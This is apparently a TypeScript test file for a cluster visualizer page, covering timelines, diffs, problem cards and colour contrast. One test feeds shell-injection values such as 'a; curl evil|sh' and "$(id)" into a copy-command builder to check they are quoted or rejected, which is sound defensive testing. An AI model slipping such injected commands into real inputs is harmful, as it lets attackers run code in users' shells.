// Pure parts of the page: what happened, what differs, which problems are the same, and the colors.
import { readFileSync } from 'node:fs';
import { nothing } from 'lit-html';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { placed } from '../../../actors/visualizer/page/chart-labels.ts';
import { differencesOf, yaml } from '../../../actors/visualizer/page/differences.ts';
import { headlineOf } from '../../../actors/visualizer/page/headline.ts';
import { marksOf } from '../../../actors/visualizer/page/history-marks.ts';
import { folded } from '../../../actors/visualizer/page/history-panel.ts';
import { sayingOf } from '../../../actors/visualizer/page/messages-panel.ts';
import { copyButton, whyCommand } from '../../../actors/visualizer/page/parts.ts';
import { cardsOf } from '../../../actors/visualizer/page/problems.ts';
import {
  activitiesOf,
  barsOf,
  bucketsOf,
  criticalPath,
  readyAt,
  withoutRoutine,
} from '../../../actors/visualizer/page/timeline-data.ts';
import type { Problem, RecentEvent, Step } from '../../../actors/visualizer/wire.ts';

const test = suite('parts of the page');

function step(key: string, at: number, to: string, tone: Step['tone'], more: Partial<Step> = {}): Step {
  return { key, at, from: '', to, cause: 'x', tone, ...more };
}

test('activities are parted by quiet', () => {
  const at = [0, 10_000, 20_000, 100_000].map((moment) => ({ at: moment }));
  assert.equal(activitiesOf(at), [
    { from: 0, to: 20_000 },
    { from: 100_000, to: 100_000 },
  ]);
});

test('35.A4: a regular look is no activity, and neither is another attempt of what fails', () => {
  const steps = [
    step('a', 0, 'reading', 'busy', { cause: 'lifecycle.started' }),
    step('a', 10, 'idle', 'available'),
    step('a', 60_000, 'looking', 'busy', { cause: 'xstate.after.look.x' }),
    step('a', 60_010, 'idle', 'available'),
    step('a', 90_000, 'reading', 'busy', { cause: 'object.changed' }),
    step('a', 90_020, 'idle', 'available'),
  ];
  assert.equal(
    withoutRoutine(steps).map(({ at }) => at),
    [0, 10, 90_000, 90_020],
  );
  const heard = [
    step('c', 5, 'looking', 'busy', { from: 'idle', cause: 'xstate.after.look.x' }),
    step('c', 9, 'idle', 'available', { from: 'looking' }),
  ];
  assert.equal(withoutRoutine(heard), [], 'nor of an object that was there before anything was heard');
  const failing = [
    step('b', 0, 'creating', 'busy'),
    step('b', 5, 'backingOff', 'failing', { failure: 'quota' }),
    step('b', 1_000, 'creating', 'failing'),
    step('b', 1_005, 'backingOff', 'failing', { failure: 'quota' }),
    step('b', 9_000, 'idle', 'available'),
  ];
  assert.equal(
    withoutRoutine(failing).map(({ at }) => at),
    [0, 5, 9_000],
  );
  const cut = [
    step('d', 0, 'backingOff', 'failing', { from: 'creating', cause: 'xstate.error.actor.create', failure: 'quota' }),
    step('d', 1_000, 'creating', 'failing', { from: 'backingOff' }),
    step('d', 1_005, 'backingOff', 'failing', { from: 'creating', failure: 'quota' }),
    step('d', 9_000, 'idle', 'available', { from: 'creating' }),
  ];
  assert.equal(
    withoutRoutine(cut).map(({ at }) => at),
    [9_000],
    'nor the end of an attempt whose beginning is not known',
  );
});

test('35.A4: of what is settled there is nothing more to draw; the critical path leads from the first to the last', () => {
  const span = { from: 0, to: 100 };
  const of: Readonly<Record<string, readonly Step[]>> = {
    a: [step('a', 0, 'creating', 'busy'), step('a', 20, 'idle', 'available')],
    b: [
      step('b', 0, 'waiting', 'waiting'),
      step('b', 21, 'creating', 'busy', { by: 'a' }),
      step('b', 60, 'idle', 'available'),
    ],
    c: [step('c', 0, 'creating', 'busy'), step('c', 30, 'idle', 'available')],
  };
  assert.equal(
    barsOf(of['b'] ?? [], span).map(({ kind, from, to }) => [kind, from, to]),
    [
      ['waits', 0, 21],
      ['works', 21, 60],
    ],
  );
  assert.is(readyAt(of['b'] ?? [], span), 60);
  assert.equal(
    criticalPath(['a', 'b', 'c'], (key) => of[key] ?? [], span),
    ['a', 'b'],
  );
  assert.equal(
    bucketsOf(
      Object.values(of)
        .flat()
        .toSorted((one, other) => one.at - other.at),
      span,
      2,
    ),
    [6, 1],
  );
});

test('35.A4: marks that lie on each other are one, which is the gravest, and each is exactly where it happened', () => {
  const steps = [
    step('a', 100.25, 'backingOff', 'failing', { failure: 'quota' }),
    step('b', 101.5, 'failed', 'failed', { failure: 'spec' }),
    step('c', 900, 'reading', 'busy', { cause: 'object.changed' }),
    step('d', 1_000, '', 'deleting'),
  ];
  const before = (each: Step): Step | undefined => (each.key === 'c' ? step('c', 0, 'idle', 'available') : undefined);
  assert.equal(
    marksOf(steps, { from: 0, to: 1_000 }, 1_000, before).map(({ kind, at, more }) => [kind, at, more]),
    [
      ['refused', 101.5, 1],
      ['spec', 900, 0],
      ['deleted', 1_000, 0],
    ],
  );
});

test('35.A2: repeats of the same failure are folded, the newest and the oldest stay', () => {
  const event = (at: number, data: RecentEvent['data']): RecentEvent => ({ at, type: 'transition', traceId: '', data });
  const events = Array.from({ length: 6 }, (_, index) => [
    event(index * 10, { from: 'r', to: 'backingOff', failure: 'quota' }),
    event(index * 10 + 5, { from: 'backingOff', to: 'claiming' }),
  ]).flat();
  const items = folded(events);
  const more = items.flatMap((item) => (item.kind === 'more' ? item.times : []));
  assert.equal(more, [4]);
  const all = items.flatMap((item) => (item.kind === 'more' ? item.events : [item.event]));
  assert.is(all.length, events.length, 'nothing is lost');
  assert.is(folded(events.slice(0, 2)).length, 2);
});

test('35.A2: only fields that the spec sets are compared, and references are not', () => {
  const object = {
    spec: { resource: { description: 'new', rules: [{ protocol: 'tcp', min: 1 }], projectRef: 'p', tags: ['a'] } },
    status: { resource: { description: 'old', rules: [{ protocol: 'tcp', min: 1, id: 'x' }], extra: 1 } },
  };
  const found = differencesOf(object, false);
  assert.is(found?.count, 2);
  const text = found?.lines.map(({ mark, text: line }) => `${mark} ${line}`) ?? [];
  assert.ok(text.includes('specified description: new') && text.includes('observed description: old'));
  assert.not.ok(text.some((line) => /projectRef|extra/.test(line)));
  assert.is(differencesOf(object, true)?.count, 1, 'of what is settled only what the status tells otherwise');
  assert.is(differencesOf({ spec: object.spec }, false)?.count, 0, 'what is not there yet does not differ');
  assert.is(differencesOf({ spec: {} }, true), undefined);
});

test('YAML is written so that it is read as what it was', () => {
  assert.is(
    yaml({ a: 'yes', b: '10', c: 'plain text', d: [], e: { f: null }, g: ['x: y'] }),
    'a: "yes"\nb: "10"\nc: plain text\nd: []\ne:\n  f: null\ng:\n  - "x: y"\n',
  );
});

test('35.A: a claim that has not ended is not called so', () => {
  const message = { topic: 'claim', from: 'a', to: 'b', at: 0, payload: { ended: false } };
  assert.is(sayingOf(message), 'claim');
  assert.is(sayingOf({ ...message, payload: { ended: true } }), 'claim ended');
});

test('35.A4: problems that say the same of several objects are one card', () => {
  const names = ['a', 'b', 'c'];
  const problems = names.map(
    (name): Problem => ({
      severity: 'person',
      namespace: 'n',
      key: `x.y.n.${name}`,
      waiting: [`w-${name}`],
      summary: `Server/${name}: no valid host`,
      advice: 'add one',
    }),
  );
  const cards = cardsOf(
    [...problems, { severity: 'waiting', namespace: 'n', key: '', waiting: [], summary: 'another', advice: '' }],
    (key) => ({ kind: 'Server', name: key.slice(-1) }),
  );
  assert.equal(
    cards.map(({ keys, waiting }) => [keys.length, waiting.length]),
    [
      [3, 3],
      [0, 0],
    ],
  );
});

test('a command for the clipboard is one line, and each name in it one word of a shell', () => {
  const of = (kind: string, name: string, namespace = 'shop'): string | undefined =>
    whyCommand({ kind, name, namespace });
  assert.is(of('Subnet', 'front-v4'), 'kubectl troupe why subnet/front-v4 -n shop');
  assert.is(of('Domain', 'a', ''), 'kubectl troupe why domain/a');
  assert.is(of('Network', 'a; curl evil|sh'), "kubectl troupe why 'network/a; curl evil|sh' -n shop");
  assert.is(of('Network', "a'$(id)"), "kubectl troupe why 'network/a'\\''$(id)' -n shop");
  assert.is(of('Network', 'a', '$(id)'), "kubectl troupe why network/a -n '$(id)'");
  for (const name of ['net\ncurl evil|sh\n#', 'a\rb', 'a\u0000', 'a\u001b[201~', 'a\u009b'])
    assert.is(of('Network', name), undefined, JSON.stringify(name));
  assert.is(of('Network', 'a', 'b\nc'), undefined);
  assert.is(of('--kubeconfig=x', 'a'), undefined, 'no option comes from a link');
  assert.is(of('Network', 'a', '-o'), undefined);
});

test('no text with control characters is offered to copy', () => {
  assert.is.not(copyButton('a b', 'Copy ID'), nothing);
  assert.is(copyButton('a\nb', 'Copy ID'), nothing);
  assert.is(copyButton(undefined, 'Copy command'), nothing);
});

// --- colors -----------------------------------------------------------------------------------------------------------------

const CSS = readFileSync(new URL('../../../actors/visualizer/page/base.css', import.meta.url), 'utf8');

type Rgb = readonly [number, number, number];

/** Light and dark color of a token. */
function colorsOf(name: string): readonly [Rgb, Rgb] {
  const [, light = '', dark = ''] =
    new RegExp(`--${name}: light-dark\\((#[0-9a-f]{6}), (#[0-9a-f]{6})\\)`).exec(CSS) ?? [];
  const rgb = (hex: string): Rgb =>
    [1, 3, 5].map((from) => Number.parseInt(hex.slice(from, from + 2), 16) / 255) as unknown as Rgb;
  assert.ok(light !== '' && dark !== '', name);
  return [rgb(light), rgb(dark)];
}

function linear(value: number): number {
  return value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
}

function luminance([red, green, blue]: Rgb): number {
  return 0.2126 * linear(red) + 0.7152 * linear(green) + 0.0722 * linear(blue);
}

function contrast(one: Rgb, other: Rgb): number {
  const [high, low] = [luminance(one), luminance(other)].sort((left, right) => right - left) as [number, number];
  return (high + 0.05) / (low + 0.05);
}

const TEXTS = [
  'text',
  'dim',
  'accent',
  'available',
  'waiting-text',
  'busy',
  'failing',
  'failed',
  'deleting',
  'held',
  'unavailable',
  'unseen',
  'quarantined',
];

test('35.A: text has 4.5 : 1 on each ground, signs have 3 : 1, in light and dark', () => {
  for (const theme of [0, 1] as const) {
    for (const ground of ['surface', 'ground']) {
      for (const name of TEXTS) {
        const found = contrast(colorsOf(name)[theme], colorsOf(ground)[theme]);
        assert.ok(found >= 4.5, `${name} on ${ground}: ${found.toFixed(2)}`);
      }
    }
    const found = contrast(colorsOf('waiting')[theme], colorsOf('surface')[theme]);
    assert.ok(found >= 3, `waiting: ${found.toFixed(2)}`);
  }
});

/** Machado, Oliveira and Fernandes 2009, full severity; on linear light. */
const BLINDNESS: Readonly<Record<string, readonly (readonly number[])[]>> = {
  none: [
    [1, 0, 0],
    [0, 1, 0],
    [0, 0, 1],
  ],
  protanopia: [
    [0.152286, 1.052583, -0.204868],
    [0.114503, 0.786281, 0.099216],
    [-0.003882, -0.048116, 1.051998],
  ],
  deuteranopia: [
    [0.367322, 0.860646, -0.227968],
    [0.280085, 0.672501, 0.047413],
    [-0.01182, 0.04294, 0.968881],
  ],
  tritanopia: [
    [1.255528, -0.076749, -0.178779],
    [-0.078411, 0.930809, 0.147602],
    [0.004733, 0.691367, 0.3039],
  ],
};

function labOf(color: Rgb, matrix: readonly (readonly number[])[]): Rgb {
  const light = color.map(linear);
  const [red = 0, green = 0, blue = 0] = matrix.map((row) =>
    Math.min(
      1,
      Math.max(
        0,
        row.reduce((sum, each, index) => sum + each * (light[index] ?? 0), 0),
      ),
    ),
  );
  const f = (value: number): number => (value > 0.008856 ? Math.cbrt(value) : 7.787 * value + 16 / 116);
  const x = f((0.4124 * red + 0.3576 * green + 0.1805 * blue) / 0.95047);
  const y = f(0.2126 * red + 0.7152 * green + 0.0722 * blue);
  const z = f((0.0193 * red + 0.1192 * green + 0.9505 * blue) / 1.08883);
  return [116 * y - 16, 500 * (x - y), 200 * (y - z)];
}

test('35.A: the six common states are told apart by people who see colors otherwise', () => {
  const common = ['available', 'waiting', 'busy', 'failing', 'failed', 'deleting'];
  for (const [kind, matrix] of Object.entries(BLINDNESS)) {
    for (const theme of [0, 1] as const) {
      for (const [index, one] of common.entries()) {
        for (const other of common.slice(index + 1)) {
          const [left, right] = [labOf(colorsOf(one)[theme], matrix), labOf(colorsOf(other)[theme], matrix)];
          const distance = Math.hypot(...left.map((each, axis) => each - (right[axis] ?? 0)));
          assert.ok(
            distance >= 13,
            `${one} and ${other}, ${kind}, ${theme === 0 ? 'light' : 'dark'}: ${distance.toFixed(1)}`,
          );
        }
      }
    }
  }
});

test('35.A: no text of the page is smaller than 11 pixels', () => {
  for (const name of ['base', 'frame', 'objects', 'object', 'views']) {
    const css = readFileSync(new URL(`../../../actors/visualizer/page/${name}.css`, import.meta.url), 'utf8');
    const sizes = [...css.matchAll(/font(?:-size)?:[^;]*?(\d+(?:\.\d+)?)px/g)].map(([, size]) => Number(size));
    assert.ok(Math.min(...sizes, 99) >= 11, `${name}.css: ${Math.min(...sizes)}`);
  }
});

test('35.A4: a title says what is wrong; the object and all the rest of a long summary stand elsewhere', () => {
  const quota =
    "quota 'port' of the project of cloud 'c' of Secret/s: creating: POST /ports of service 'network' answered 409: Quota exceeded for resources: ['port'].; quota 'port' is used up, retrying at most every 10 minutes";
  assert.equal(headlineOf(quota, 'Port/a'), {
    title: "Quota 'port' is used up, retrying at most every 10 minutes",
    detail: quota,
  });
  assert.equal(headlineOf('Network/public: InvalidConfiguration: found more than one', 'Network/public'), {
    title: 'Found more than one',
    detail: 'InvalidConfiguration: found more than one',
  });
  assert.equal(headlineOf('Network/b: it waits', 'Network/a'), { title: 'Network/b: it waits', detail: '' });
  assert.equal(headlineOf('Network/a: it waits; soon', 'Network/a'), { title: 'It waits; soon', detail: '' });
});

test('35.A3: labels of a chart lie on no state and on no other label, where there is room', () => {
  const states = { a: [100, 0, 100, 40], b: [100, 100, 100, 40], c: [100, 200, 100, 40] } as const;
  const layout = { width: 400, height: 260, states, arrows: [], anywhere: [], goesAnywhere: [] };
  const way = [
    [150, 40],
    [150, 200],
  ] as const;
  const labels = placed(
    [
      { lines: ['update failed', '14:12'], css: 'took', way },
      { lines: ['after backoff'], css: 'next', way },
    ],
    layout,
  );
  const boxes = labels.map(({ x, y, width, height }) => [x - width / 2, y - height / 2, width, height] as const);
  const all = [...Object.values(states), ...boxes];
  for (const [index, one] of all.entries()) {
    for (const other of all.slice(index + 1)) {
      const isApart =
        one[0] + one[2] <= other[0] ||
        other[0] + other[2] <= one[0] ||
        one[1] + one[3] <= other[1] ||
        other[1] + other[3] <= one[1];
      assert.ok(isApart, `${one} and ${other}`);
    }
  }
});

test('35.A4: the critical path leads to what became available last, whatever was deleted meanwhile', () => {
  const of = new Map([
    ['a', [step('a', 0, 'making', 'busy'), step('a', 50, 'idle', 'available')]],
    [
      'b',
      [
        step('b', 0, 'waiting', 'waiting'),
        step('b', 60, 'making', 'busy', { by: 'a' }),
        step('b', 90, 'idle', 'available'),
      ],
    ],
    ['c', [step('c', 70, 'deleting', 'deleting'), step('c', 95, '', 'deleting')]],
  ]);
  const span = { from: 0, to: 100 };
  assert.equal(
    criticalPath([...of.keys()], (key) => of.get(key) ?? [], span),
    ['a', 'b'],
  );
  assert.equal(
    criticalPath(['c'], (key) => of.get(key) ?? [], span),
    ['c'],
  );
});

test.run();
